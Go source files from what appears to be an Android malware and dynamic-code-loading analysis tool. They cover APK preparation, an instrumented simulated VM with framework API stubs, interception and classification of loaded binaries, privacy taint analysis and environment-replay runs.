func PrepareAPK(apkBytes []byte) (*PreparedApp, error) {
	parsed, err := apk.Parse(apkBytes)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	prep := &PreparedApp{APK: parsed, raw: apkBytes}
	if parsed.Dex != nil {
		df, err := dex.Decode(parsed.Dex)
		if err != nil {
			return nil, fmt.Errorf("core: %s: %w", parsed.Manifest.Package, err)
		}
		prep.Dex = df
	}
	return prep, nil
}

// dynRun is the outcome of one dynamic exercise.
type dynRun struct {
	outcome  monkey.Outcome
	crash    error
	events   []*DCLEvent
	vmEvents []vm.Event
}

// runDynamic provisions a fresh device, installs the app with full
// instrumentation and exercises it. preLaunch mutates the device after
// provisioning (used by the retry path and the Table VIII replays). The
// dump phase gets its own "interception" child span under ctx's span.
func (a *Analyzer) runDynamic(ctx context.Context, prep *PreparedApp, preLaunch func(*android.Device)) (*dynRun, error) {
	devOpts := []android.Option{}
	if a.opts.StorageQuota > 0 {
		devOpts = append(devOpts, android.WithStorageQuota(a.opts.StorageQuota))
	}
	dev := android.NewDevice(devOpts...)
	if a.opts.SetupDevice != nil {
		if err := a.opts.SetupDevice(dev); err != nil {
			return nil, fmt.Errorf("core: device setup: %w", err)
		}
	}
	var net *netsim.Network
	if a.opts.Network != nil {
		net = a.opts.Network.Clone()
		net.Online = dev.NetworkAvailable
	}
	archive, err := prep.Archive()
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	app, err := dev.Packages.InstallArchive(prep.APK, archive)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	app.Decoded = prep.Dex
	logger := NewLogger(app.Package, dev.Storage)
	logger.DisableBlocking = a.opts.DisableDeleteBlocking
	tracker := NewTracker()
	if preLaunch != nil {
		preLaunch(dev)
	}
	machine, err := vm.New(dev, net, app, logger, tracker)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	if a.opts.StepBudget > 0 {
		machine.StepBudget = a.opts.StepBudget
	}
	mres := monkey.Exercise(machine, a.opts.MonkeyEvents, a.opts.Seed)

	_, sIntercept := trace.Start(ctx, "interception")
	mIntercept := profile.MeterSpan(sIntercept)
	logger.FinalizeInterception()
	events := logger.Events()
	tracker.Annotate(events)
	// Measurement events exclude system libraries.
	var kept []*DCLEvent
	intercepted := 0
	for _, ev := range events {
		if !ev.SystemLib {
			kept = append(kept, ev)
			if ev.Intercepted != nil {
				intercepted++
			}
		}
	}
	dumped, err := logger.DumpIntercepted()
	sIntercept.SetAttr("intercepted", strconv.Itoa(intercepted))
	sIntercept.SetAttr("dumped", strconv.Itoa(len(dumped)))
	mIntercept()
	if err != nil && !isNoSpace(err) {
		sIntercept.EndErr(err)
		return nil, err
	}
	sIntercept.End()
	return &dynRun{
		outcome:  mres.Outcome,
		crash:    mres.Err,
		events:   kept,
		vmEvents: machine.Events(),
	}, nil
}

// staticOnIntercepted runs DroidNative and the taint analysis over every
// intercepted binary and fills the malware/privacy sections of the
// result.
func (a *Analyzer) staticOnIntercepted(res *AppResult) {
	merged := &taint.Result{SourcesSeen: make(map[android.DataType]bool)}
	// Dedup keys on (path, content hash), not path alone: a payload
	// overwritten at the same path between two loads (the packer-swap
	// pattern, §V-F) is a distinct binary and must still be classified.
	type interceptKey struct {
		path string
		sum  [sha256.Size]byte
	}
	classified := make(map[interceptKey]bool)
	anyDex := false
	for _, ev := range res.Events {
		if ev.Intercepted == nil {
			continue
		}
		key := interceptKey{path: ev.Path, sum: sha256.Sum256(ev.Intercepted)}
		if classified[key] {
			continue
		}
		classified[key] = true
		switch {
		case dex.IsOptimized(ev.Intercepted), isDex(ev.Intercepted):
			df, err := dex.Decode(ev.Intercepted)
			if err != nil {
				continue
			}
			anyDex = true
			if a.opts.Classifier != nil {
				if det := a.opts.Classifier.Classify(mail.FromDex(df)); det.Malware {
					res.Malware = append(res.Malware, MalwareHit{
						Path: ev.Path, Kind: KindDex, Family: det.Family, Score: det.Score,
					})
				}
			}
			tr := taint.Analyze(df)
			merged.Leaks = append(merged.Leaks, tr.Leaks...)
			for dt := range tr.SourcesSeen {
				merged.SourcesSeen[dt] = true
			}
		case nativebin.IsSELF(ev.Intercepted):
			if a.opts.Classifier == nil {
				continue
			}
			lib, err := nativebin.Decode(ev.Intercepted)
			if err != nil {
				continue
			}
			if det := a.opts.Classifier.Classify(mail.FromNative(lib)); det.Malware {
				res.Malware = append(res.Malware, MalwareHit{
					Path: ev.Path, Kind: KindNative, Family: det.Family, Score: det.Score,
				})
			}
		}
	}
	if anyDex {
		res.Privacy = merged
		res.PrivacyByEntity = make(map[string]bool)
		for _, dt := range merged.LeakedTypes() {
			exclusive := true
			for _, cls := range merged.LeakClasses(dt) {
				if classifyEntity(res.Package, cls) == EntityOwn {
					exclusive = false
					break
				}
			}
			res.PrivacyByEntity[string(dt)] = exclusive
		}
	}
}

func isDex(data []byte) bool {
	return len(data) >= 4 && string(data[:4]) == dex.Magic
}

// ReplayUnderConfig re-runs the app's dynamic analysis under one Table
// VIII runtime configuration and returns the set of file paths whose DCL
// events fired (used to test whether malicious loads are gated on the
// environment).
func (a *Analyzer) ReplayUnderConfig(apkBytes []byte, cfg ReplayConfig, releaseDate time.Time) (map[string]bool, error) {
	return a.ReplayUnderConfigContext(context.Background(), apkBytes, cfg, releaseDate)
}

// ReplayUnderConfigContext is ReplayUnderConfig joining the trace carried
// by ctx with a "replay" span annotated with the configuration, so an
// app's replays land in the same span tree as its analysis.
func (a *Analyzer) ReplayUnderConfigContext(ctx context.Context, apkBytes []byte, cfg ReplayConfig, releaseDate time.Time) (map[string]bool, error) {
	prep, err := PrepareAPK(apkBytes)
	if err != nil {
		return nil, err
	}
	return a.ReplayPreparedContext(ctx, prep, cfg, releaseDate)
}

// ReplayPreparedContext is the parse-once replay path: it re-runs an
// already-prepared app (AppResult.Prepared, or PrepareAPK) under one
// Table VIII configuration without touching archive bytes again.
func (a *Analyzer) ReplayPreparedContext(ctx context.Context, prep *PreparedApp, cfg ReplayConfig, releaseDate time.Time) (map[string]bool, error) {
	if releaseDate.IsZero() {
		releaseDate = DefaultReleaseDate
	}
	ctx, span := trace.Start(ctx, "replay")
	span.SetAttr("config", string(cfg))
	defer profile.MeterSpan(span)()
	defer a.opts.Metrics.Time("stage.replay")()
	run, err := a.runDynamic(ctx, prep, func(dev *android.Device) {
		switch cfg {
		case ConfigTimeBeforeRelease:
			dev.SetClock(releaseDate.AddDate(0, -1, 0))
		case ConfigAirplaneWiFiOn:
			dev.SetAirplaneMode(true)
			dev.SetWiFi(true)
		case ConfigAirplaneWiFiOff:
			dev.SetAirplaneMode(true)
		case ConfigLocationOff:
			dev.SetLocationEnabled(false)
		}
	})
	if err != nil {
		span.EndErr(err)
		return nil, err
	}
	loaded := make(map[string]bool)
	for _, ev := range run.events {
		loaded[ev.Path] = true
	}
	span.SetAttr("loaded", strconv.Itoa(len(loaded)))
	span.End()
	return loaded, nil
}

// RewriteNeeded reports whether dynamic analysis of this archive would
// require repackaging (no WRITE_EXTERNAL_STORAGE declared).
func RewriteNeeded(a *apk.APK) bool {
	return !a.Manifest.HasPermission(apk.WriteExternalStorage)
}
