package vm

import (
	"fmt"
	"strings"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/netsim"
)

// connectionClasses are URLConnection and its subclasses; all of them are
// instrumented by the download tracker (paper §III-B Table I).
var connectionClasses = map[string]bool{
	"java.net.URLConnection":      true,
	"java.net.HttpURLConnection":  true,
	"java.net.HttpsURLConnection": true,
	"java.net.FtpURLConnection":   true,
}

// inputStreamClasses are InputStream and its wrappers.
var inputStreamClasses = map[string]bool{
	"java.io.InputStream":          true,
	"java.io.FileInputStream":      true,
	"java.io.BufferedInputStream":  true,
	"java.io.ByteArrayInputStream": true,
	"java.io.Reader":               true,
}

// outputStreamClasses are OutputStream and its wrappers.
var outputStreamClasses = map[string]bool{
	"java.io.OutputStream":          true,
	"java.io.FileOutputStream":      true,
	"java.io.BufferedOutputStream":  true,
	"java.io.ByteArrayOutputStream": true,
	"java.io.Writer":                true,
}

// systemInvoke dispatches framework methods. It returns handled=false when
// the reference is not a system API, letting the interpreter resolve app
// classes.
func (m *VM) systemInvoke(ref dex.MethodRef, args []Value) (Value, bool, error) {
	switch {
	case ref.Class == "java.lang.Object" && ref.Name == "<init>":
		return Null, true, nil

	case ref.Class == SecureLoaderClass && ref.Name == "<init>":
		return m.sysSecureDexClassLoaderInit(args)
	case ref.Class == string(LoaderDex) && ref.Name == "<init>":
		return m.sysDexClassLoaderInit(args)
	case ref.Class == string(LoaderPath) && ref.Name == "<init>":
		return m.sysPathClassLoaderInit(args)
	case (ref.Class == "java.lang.ClassLoader" || ref.Class == string(LoaderDex) ||
		ref.Class == string(LoaderPath)) && ref.Name == "loadClass":
		return m.sysLoadClass(args)

	case ref.Class == "java.lang.Class":
		return m.sysClassMethod(ref.Name, args)
	case ref.Class == "java.lang.reflect.Method" && ref.Name == "invoke":
		return m.sysReflectInvoke(args)

	case ref.Class == "java.lang.System":
		return m.sysSystem(ref.Name, args)
	case ref.Class == "java.lang.Runtime":
		return m.sysRuntime(ref.Name, args)
	case ref.Class == "java.lang.Thread" && ref.Name == "sleep":
		return Null, true, nil

	case ref.Class == "java.io.File":
		return m.sysFile(ref.Name, args)
	case inputStreamClasses[ref.Class]:
		return m.sysInputStream(ref.Class, ref.Name, args)
	case outputStreamClasses[ref.Class]:
		return m.sysOutputStream(ref.Class, ref.Name, args)

	case ref.Class == "java.net.URL":
		return m.sysURL(ref.Name, args)
	case connectionClasses[ref.Class]:
		return m.sysConnection(ref.Class, ref.Name, args)

	case ref.Class == "android.telephony.TelephonyManager":
		return m.sysTelephony(ref.Name, args)
	case ref.Class == "android.location.LocationManager":
		return m.sysLocation(ref.Name, args)
	case ref.Class == "android.accounts.AccountManager" && ref.Name == "getAccounts":
		return StrVal(strings.Join(m.Device.Accounts, ",")), true, nil
	case ref.Class == "android.content.pm.PackageManager":
		return m.sysPackageManager(ref.Name, args)
	case ref.Class == "android.content.ContentResolver" && ref.Name == "query":
		return m.sysResolverQuery(args)
	case ref.Class == "android.provider.Settings" && ref.Name == "getInt":
		if argString(args, 0) == "airplane_mode_on" && m.Device.AirplaneModeOn() {
			return IntVal(1), true, nil
		}
		return IntVal(0), true, nil
	case ref.Class == "android.net.ConnectivityManager" && ref.Name == "getActiveNetworkInfo":
		if m.Device.NetworkAvailable() {
			return RefVal(m.newObject("android.net.NetworkInfo")), true, nil
		}
		return Null, true, nil

	case ref.Class == "android.content.Context" || ref.Class == "android.app.Activity" ||
		ref.Class == "android.app.Application":
		return m.sysContext(ref.Name, args)

	case ref.Class == "android.telephony.SmsManager" && ref.Name == "sendTextMessage":
		m.event("sms", argString(args, 1), argString(args, 2))
		return Null, true, nil
	case ref.Class == "android.util.Log":
		m.event("log", argString(args, 0), argString(args, 1))
		return Null, true, nil
	case ref.Class == "org.apache.http.impl.client.DefaultHttpClient" && ref.Name == "execute":
		m.event("transmit", "http-client", argString(args, 1))
		return Null, true, nil
	case ref.Class == "android.app.NotificationManager" && ref.Name == "notify":
		m.event("notification-ad", argString(args, 1), "")
		return Null, true, nil
	case ref.Class == "android.app.ShortcutManager" && ref.Name == "addShortcut":
		m.event("shortcut", argString(args, 1), "")
		return Null, true, nil
	case ref.Class == "android.provider.Browser" && ref.Name == "setHomepage":
		m.event("homepage", argString(args, 0), "")
		return Null, true, nil
	}
	// Unrecognized framework namespaces resolve to a harmless no-op so app
	// code linking against richer APIs still runs; app-package classes
	// fall through to the interpreter.
	if isFrameworkClass(ref.Class) {
		return Null, true, nil
	}
	return Null, false, nil
}

// isFrameworkClass reports whether the class lives in a framework
// namespace the VM stubs out when no specific behaviour is modeled.
func isFrameworkClass(name string) bool {
	for _, p := range []string{"java.", "javax.", "android.", "dalvik.", "org.apache."} {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

func argString(args []Value, i int) string {
	if i >= len(args) {
		return ""
	}
	return args[i].AsString()
}

func argRef(args []Value, i int) *Object {
	if i >= len(args) || args[i].Kind != KindRef {
		return nil
	}
	return args[i].Ref
}

// --- class loaders -------------------------------------------------------

// sysDexClassLoaderInit implements
// DexClassLoader(dexPath, optimizedDirectory, librarySearchPath, parent).
// The hook fires before any file is consumed, exactly like the paper's
// instrumented constructor.
func (m *VM) sysDexClassLoaderInit(args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	if self == nil {
		return Null, true, fmt.Errorf("%w: DexClassLoader.<init> without receiver", ErrAppCrash)
	}
	dexPath := argString(args, 1)
	optDir := argString(args, 2)
	m.Hooks.OnClassLoaderInit(LoaderDex, dexPath, optDir, m.StackTrace())
	cl, err := m.newClassLoader(LoaderDex, dexPath, optDir, parentLoader(args, 4))
	if err != nil {
		return Null, true, fmt.Errorf("%w: %w", ErrAppCrash, err)
	}
	self.Native = cl
	return Null, true, nil
}

// sysPathClassLoaderInit implements PathClassLoader(dexPath, parent).
func (m *VM) sysPathClassLoaderInit(args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	if self == nil {
		return Null, true, fmt.Errorf("%w: PathClassLoader.<init> without receiver", ErrAppCrash)
	}
	dexPath := argString(args, 1)
	m.Hooks.OnClassLoaderInit(LoaderPath, dexPath, "", m.StackTrace())
	cl, err := m.newClassLoader(LoaderPath, dexPath, "", parentLoader(args, 2))
	if err != nil {
		return Null, true, fmt.Errorf("%w: %w", ErrAppCrash, err)
	}
	self.Native = cl
	return Null, true, nil
}

func parentLoader(args []Value, idx int) *ClassLoader {
	if o := argRef(args, idx); o != nil {
		if cl, ok := o.Native.(*ClassLoader); ok {
			return cl
		}
	}
	return nil
}

// sysLoadClass implements ClassLoader.loadClass(name), returning a
// java.lang.Class object.
func (m *VM) sysLoadClass(args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	name := argString(args, 1)
	var found *dex.Class
	if self != nil {
		if cl, ok := self.Native.(*ClassLoader); ok {
			found = cl.FindClass(name)
		}
	}
	if found == nil {
		found = m.resolveClass(name)
	}
	if found == nil {
		return Null, true, fmt.Errorf("%w: ClassNotFoundException: %s", ErrAppCrash, name)
	}
	obj := m.newObject("java.lang.Class")
	obj.Native = found
	return RefVal(obj), true, nil
}

// sysClassMethod implements Class.forName / newInstance / getMethod.
func (m *VM) sysClassMethod(name string, args []Value) (Value, bool, error) {
	switch name {
	case "forName":
		cname := argString(args, 0)
		c := m.resolveClass(cname)
		if c == nil {
			return Null, true, fmt.Errorf("%w: ClassNotFoundException: %s", ErrAppCrash, cname)
		}
		obj := m.newObject("java.lang.Class")
		obj.Native = c
		return RefVal(obj), true, nil
	case "newInstance":
		self := argRef(args, 0)
		c, ok := classOf(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: newInstance on non-Class", ErrAppCrash)
		}
		inst := m.newObject(c.Name)
		if init := c.FindMethod("<init>", ""); init != nil {
			if _, err := m.interpret(c, init, []Value{RefVal(inst)}); err != nil {
				return Null, true, err
			}
		}
		return RefVal(inst), true, nil
	case "getMethod", "getDeclaredMethod":
		self := argRef(args, 0)
		c, ok := classOf(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: getMethod on non-Class", ErrAppCrash)
		}
		mname := argString(args, 1)
		mm := c.FindMethod(mname, "")
		if mm == nil {
			return Null, true, fmt.Errorf("%w: NoSuchMethodException: %s.%s", ErrAppCrash, c.Name, mname)
		}
		obj := m.newObject("java.lang.reflect.Method")
		obj.Native = &reflectedMethod{cls: c, method: mm}
		return RefVal(obj), true, nil
	case "getName":
		self := argRef(args, 0)
		if c, ok := classOf(self); ok {
			return StrVal(c.Name), true, nil
		}
		return Null, true, fmt.Errorf("%w: getName on non-Class", ErrAppCrash)
	}
	return Null, true, nil
}

type reflectedMethod struct {
	cls    *dex.Class
	method *dex.Method
}

func classOf(o *Object) (*dex.Class, bool) {
	if o == nil {
		return nil, false
	}
	c, ok := o.Native.(*dex.Class)
	return c, ok
}

// sysReflectInvoke implements Method.invoke(receiver, args...).
func (m *VM) sysReflectInvoke(args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	if self == nil {
		return Null, true, fmt.Errorf("%w: Method.invoke on null", ErrAppCrash)
	}
	rm, ok := self.Native.(*reflectedMethod)
	if !ok {
		return Null, true, fmt.Errorf("%w: Method.invoke on non-Method", ErrAppCrash)
	}
	callArgs := args[1:]
	if rm.method.Flags&dex.ACCNative != 0 {
		v, err := m.jniInvoke(rm.cls, rm.method, callArgs)
		return v, true, err
	}
	v, err := m.interpret(rm.cls, rm.method, callArgs)
	return v, true, err
}

// --- System / Runtime (JNI entry points) ---------------------------------

func (m *VM) sysSystem(name string, args []Value) (Value, bool, error) {
	switch name {
	case "loadLibrary":
		err := m.loadLibraryByName(argString(args, 0))
		return Null, true, err
	case "load":
		err := m.loadNativePath(Load, argString(args, 0))
		return Null, true, err
	case "currentTimeMillis":
		return IntVal(m.Device.Now().UnixMilli()), true, nil
	case "getProperty":
		return StrVal(""), true, nil
	}
	return Null, true, nil
}

func (m *VM) sysRuntime(name string, args []Value) (Value, bool, error) {
	switch name {
	case "getRuntime":
		return RefVal(m.newObject("java.lang.Runtime")), true, nil
	case "load0":
		// args[0] is the Runtime receiver.
		err := m.loadNativePath(LoadZero, argString(args, 1))
		return Null, true, err
	case "exec":
		m.event("exec", argString(args, 1), "")
		return Null, true, nil
	}
	return Null, true, nil
}

// --- java.io.File ---------------------------------------------------------

func (m *VM) sysFile(name string, args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	switch name {
	case "<init>":
		path := argString(args, 1)
		if self == nil {
			return Null, true, fmt.Errorf("%w: File.<init> without receiver", ErrAppCrash)
		}
		self.SetField("path", StrVal(path))
		self.Native = m.Factory.NewFile(path)
		return Null, true, nil
	case "getPath", "getAbsolutePath":
		return self.Field("path"), true, nil
	case "exists":
		if m.Device.Storage.Exists(self.Field("path").AsString()) {
			return IntVal(1), true, nil
		}
		return IntVal(0), true, nil
	case "delete":
		path := self.Field("path").AsString()
		if m.Hooks.OnFileDelete(path) {
			// Blocked by the interception queue: silently report failure,
			// exactly as the paper's modified java.io.File does.
			return IntVal(0), true, nil
		}
		if err := m.Device.Storage.Delete(path, m.App.Package); err != nil {
			return IntVal(0), true, nil
		}
		return IntVal(1), true, nil
	case "renameTo":
		oldPath := self.Field("path").AsString()
		var newPath string
		if o := argRef(args, 1); o != nil {
			newPath = o.Field("path").AsString()
		} else {
			newPath = argString(args, 1)
		}
		if m.Hooks.OnFileRename(oldPath, newPath) {
			return IntVal(0), true, nil
		}
		if err := m.Device.Storage.Rename(oldPath, newPath, m.App.Package, m.App.HasExternalWrite()); err != nil {
			return IntVal(0), true, nil
		}
		if fv, ok := self.Native.(*netsim.FileValue); ok {
			fv.CopyTo(newPath) // File -> File flow
		}
		return IntVal(1), true, nil
	case "length":
		_, size, err := m.Device.Storage.Stat(self.Field("path").AsString())
		if err != nil {
			return IntVal(0), true, nil
		}
		return IntVal(size), true, nil
	}
	return Null, true, nil
}

// --- streams ---------------------------------------------------------------

func (m *VM) sysInputStream(class, name string, args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	switch name {
	case "<init>":
		if self == nil {
			return Null, true, fmt.Errorf("%w: %s.<init> without receiver", ErrAppCrash, class)
		}
		switch class {
		case "java.io.FileInputStream":
			// Argument: a path string or a File object. Opening through a
			// File object emits the File -> InputStream flow.
			if fo := argRef(args, 1); fo != nil {
				path := fo.Field("path").AsString()
				data, err := m.Device.Storage.ReadFile(path)
				if err != nil {
					return Null, true, fmt.Errorf("%w: FileNotFoundException: %s", ErrAppCrash, path)
				}
				if fv, ok := fo.Native.(*netsim.FileValue); ok {
					self.Native = fv.Open(data)
				} else {
					self.Native = m.Factory.NewFile(path).Open(data)
				}
			} else {
				path := argString(args, 1)
				data, err := m.Device.Storage.ReadFile(path)
				if err != nil {
					return Null, true, fmt.Errorf("%w: FileNotFoundException: %s", ErrAppCrash, path)
				}
				self.Native = m.Factory.NewFile(path).Open(data)
			}
		case "java.io.BufferedInputStream":
			inner := argRef(args, 1)
			if in, ok := nativeStream(inner); ok {
				self.Native = in.Wrap() // InputStream -> InputStream
			}
		case "java.io.ByteArrayInputStream":
			if buf := argRef(args, 1); buf != nil {
				if b, ok := buf.Native.(*netsim.Buffer); ok {
					self.Native = b.AsInputStream() // Buffer -> InputStream
				}
			}
		}
		return Null, true, nil
	case "read":
		in, ok := nativeStream(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: read on unopened stream", ErrAppCrash)
		}
		n := 4096
		if len(args) > 1 {
			n = int(args[1].AsInt())
		}
		buf := in.Read(n)
		if buf == nil {
			return Null, true, nil // EOF -> null buffer; apps branch with if-eqz
		}
		obj := m.newObject("byte[]")
		obj.Native = buf
		return RefVal(obj), true, nil
	case "readAll":
		in, ok := nativeStream(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: readAll on unopened stream", ErrAppCrash)
		}
		buf := in.ReadAll()
		obj := m.newObject("byte[]")
		obj.Native = buf
		return RefVal(obj), true, nil
	case "close":
		return Null, true, nil
	}
	return Null, true, nil
}

func nativeStream(o *Object) (*netsim.InputStream, bool) {
	if o == nil {
		return nil, false
	}
	in, ok := o.Native.(*netsim.InputStream)
	return in, ok
}

func (m *VM) sysOutputStream(class, name string, args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	switch name {
	case "<init>":
		if self == nil {
			return Null, true, fmt.Errorf("%w: %s.<init> without receiver", ErrAppCrash, class)
		}
		path := argString(args, 1)
		if fo := argRef(args, 1); fo != nil {
			if inner, ok := fo.Native.(*netsim.OutputStream); ok {
				// BufferedOutputStream over another stream: fresh stream
				// that drains to the inner one on close.
				out := m.Factory.NewOutputStream(inner.Path)
				self.Native = out
				self.SetField("inner", RefVal(fo))
				return Null, true, nil
			}
			path = fo.Field("path").AsString()
		}
		self.Native = m.Factory.NewOutputStream(path)
		return Null, true, nil
	case "write":
		out, ok := nativeOut(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: write on unopened stream", ErrAppCrash)
		}
		if buf := argRef(args, 1); buf != nil {
			if b, ok := buf.Native.(*netsim.Buffer); ok {
				out.Write(b) // Buffer -> OutputStream
				return Null, true, nil
			}
		}
		// Writing a raw string: wrap it in a fresh buffer first.
		b := m.Factory.NewBuffer([]byte(argString(args, 1)))
		out.Write(b)
		return Null, true, nil
	case "writeString":
		out, ok := nativeOut(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: writeString on unopened stream", ErrAppCrash)
		}
		b := m.Factory.NewBuffer([]byte(argString(args, 1)))
		out.Write(b)
		return Null, true, nil
	case "toByteArray":
		out, ok := nativeOut(self)
		if !ok {
			return Null, true, fmt.Errorf("%w: toByteArray on unopened stream", ErrAppCrash)
		}
		obj := m.newObject("byte[]")
		obj.Native = out.ToBuffer() // OutputStream -> Buffer
		return RefVal(obj), true, nil
	case "close", "flush":
		out, ok := nativeOut(self)
		if !ok {
			return Null, true, nil
		}
		if innerRef := self.Field("inner"); innerRef.Kind == KindRef {
			if inner, ok2 := nativeOut(innerRef.Ref); ok2 {
				out.DrainTo(inner) // OutputStream -> OutputStream
				return Null, true, nil
			}
		}
		if name == "close" && out.Path != "" {
			out.CloseToFile() // OutputStream -> File
			if err := m.Device.Storage.WriteFile(out.Path, out.Data, m.App.Package, m.App.HasExternalWrite()); err != nil {
				return Null, true, fmt.Errorf("%w: IOException: %w", ErrAppCrash, err)
			}
		}
		return Null, true, nil
	}
	return Null, true, nil
}

func nativeOut(o *Object) (*netsim.OutputStream, bool) {
	if o == nil {
		return nil, false
	}
	out, ok := o.Native.(*netsim.OutputStream)
	return out, ok
}

// --- networking -------------------------------------------------------------

func (m *VM) sysURL(name string, args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	switch name {
	case "<init>":
		if self == nil {
			return Null, true, fmt.Errorf("%w: URL.<init> without receiver", ErrAppCrash)
		}
		self.Native = m.Factory.NewURL(argString(args, 1))
		return Null, true, nil
	case "openConnection":
		if self == nil || self.Native == nil {
			return Null, true, fmt.Errorf("%w: openConnection on null URL", ErrAppCrash)
		}
		conn := m.newObject("java.net.HttpURLConnection")
		conn.Native = self.Native
		return RefVal(conn), true, nil
	case "openStream":
		// Shortcut equal to openConnection().getInputStream().
		return m.connInputStream(self)
	}
	return Null, true, nil
}

func (m *VM) sysConnection(class, name string, args []Value) (Value, bool, error) {
	self := argRef(args, 0)
	switch name {
	case "getInputStream":
		return m.connInputStream(self)
	case "connect":
		return Null, true, nil
	case "write":
		m.event("transmit", connURL(self), argString(args, 1))
		return Null, true, nil
	}
	_ = class
	return Null, true, nil
}

func connURL(o *Object) string {
	if o != nil {
		if u, ok := o.Native.(*netsim.URLValue); ok {
			return u.Spec
		}
	}
	return ""
}

func (m *VM) connInputStream(self *Object) (Value, bool, error) {
	if self == nil {
		return Null, true, fmt.Errorf("%w: getInputStream on null connection", ErrAppCrash)
	}
	u, ok := self.Native.(*netsim.URLValue)
	if !ok {
		return Null, true, fmt.Errorf("%w: connection has no URL", ErrAppCrash)
	}
	if m.Network == nil {
		return Null, true, fmt.Errorf("%w: UnknownHostException: %s", ErrAppCrash, u.Spec)
	}
	in, err := m.Network.OpenStream(m.Factory, u)
	if err != nil {
		// Network failures surface as IOExceptions apps may catch; our
		// generated apps branch on a null stream instead, mirroring
		// defensive SDK code.
		return Null, true, nil
	}
	obj := m.newObject("java.io.InputStream")
	obj.Native = in
	return RefVal(obj), true, nil
}

// --- privacy sources ---------------------------------------------------------

func (m *VM) sysTelephony(name string, args []Value) (Value, bool, error) {
	switch name {
	case "getDeviceId":
		return StrVal(m.Device.IMEI), true, nil
	case "getSubscriberId":
		return StrVal(m.Device.IMSI), true, nil
	case "getSimSerialNumber":
		return StrVal(m.Device.ICCID), true, nil
	case "getLine1Number":
		return StrVal(m.Device.PhoneNumber), true, nil
	}
	return Null, true, nil
}

func (m *VM) sysLocation(name string, args []Value) (Value, bool, error) {
	switch name {
	case "getLastKnownLocation":
		if !m.Device.LocationEnabled() {
			return Null, true, nil
		}
		return StrVal("42.0565,-87.6753"), true, nil
	case "isProviderEnabled":
		if m.Device.LocationEnabled() {
			return IntVal(1), true, nil
		}
		return IntVal(0), true, nil
	}
	return Null, true, nil
}

func (m *VM) sysPackageManager(name string, args []Value) (Value, bool, error) {
	switch name {
	case "getInstalledApplications", "getInstalledPackages":
		return StrVal(strings.Join(m.Device.Packages.InstalledPackages(), ",")), true, nil
	}
	return Null, true, nil
}

func (m *VM) sysResolverQuery(args []Value) (Value, bool, error) {
	uri := argString(args, 1)
	if dt, ok := android.ProviderType(uri); ok {
		return StrVal("cursor:" + string(dt)), true, nil
	}
	return Null, true, nil
}

// --- context ------------------------------------------------------------------

func (m *VM) sysContext(name string, args []Value) (Value, bool, error) {
	switch name {
	case "getPackageName":
		return StrVal(m.App.Package), true, nil
	case "getFilesDir":
		return StrVal(android.InternalDir(m.App.Package) + "files"), true, nil
	case "getCacheDir":
		return StrVal(android.InternalDir(m.App.Package) + "cache"), true, nil
	case "getExternalFilesDir":
		return StrVal(android.ExternalRoot + "Android/data/" + m.App.Package), true, nil
	case "getAssets":
		return StrVal(android.InternalDir(m.App.Package) + "assets"), true, nil
	case "<init>", "onCreate", "attachBaseContext", "setContentView":
		return Null, true, nil
	}
	return Null, true, nil
}
