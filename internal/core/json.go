package core

import (
	"encoding/json"
	"errors"
)

// AppResult carries one error-typed field (Crash), which encoding/json
// cannot round-trip. The custom (un)marshalers below flatten it to its
// message so results can live in the content-addressed result store and
// be served by the vetting daemon; everything else marshals natively.

type appResultAlias AppResult

type appResultJSON struct {
	*appResultAlias
	// Crash shadows the error field of the embedded alias.
	Crash string `json:"Crash,omitempty"`
}

// MarshalJSON implements json.Marshaler.
func (r *AppResult) MarshalJSON() ([]byte, error) {
	out := appResultJSON{appResultAlias: (*appResultAlias)(r)}
	if r.Crash != nil {
		out.Crash = r.Crash.Error()
	}
	return json.Marshal(out)
}

// UnmarshalJSON implements json.Unmarshaler. A restored crash is a plain
// opaque error: the message survives, wrapped sentinels do not.
func (r *AppResult) UnmarshalJSON(data []byte) error {
	aux := appResultJSON{appResultAlias: (*appResultAlias)(r)}
	if err := json.Unmarshal(data, &aux); err != nil {
		return err
	}
	if aux.Crash != "" {
		r.Crash = errors.New(aux.Crash)
	}
	return nil
}
