package dex

// Builder constructs SDEX files programmatically. It is the API the corpus
// generator and the obfuscators use to synthesize application bytecode.
//
//	b := dex.NewBuilder()
//	cls := b.Class("com.example.Main", "android.app.Activity")
//	m := cls.Method("onCreate", dex.ACCPublic, 4, "V")
//	m.ConstString(0, "/data/data/com.example/cache/x.dex")
//	...
//	file := b.File()
type Builder struct {
	file File
}

// NewBuilder returns an empty builder.
func NewBuilder() *Builder {
	return &Builder{}
}

// File finishes the build and returns the accumulated file. The builder
// may continue to be used; the returned file shares structure with it.
func (b *Builder) File() *File {
	return &b.file
}

// Class starts (or reopens) a class with the given Java binary name and
// superclass. Reopening returns the existing class builder.
func (b *Builder) Class(name, super string) *ClassBuilder {
	if c := b.file.FindClass(name); c != nil {
		return &ClassBuilder{c: c}
	}
	c := &Class{Name: name, Super: super, Flags: ACCPublic}
	b.file.Classes = append(b.file.Classes, c)
	return &ClassBuilder{c: c}
}

// ClassBuilder adds members to one class.
type ClassBuilder struct {
	c *Class
}

// Raw returns the underlying class.
func (cb *ClassBuilder) Raw() *Class { return cb.c }

// Flags sets the class access flags.
func (cb *ClassBuilder) Flags(f AccessFlags) *ClassBuilder {
	cb.c.Flags = f
	return cb
}

// Implements appends interface names.
func (cb *ClassBuilder) Implements(ifaces ...string) *ClassBuilder {
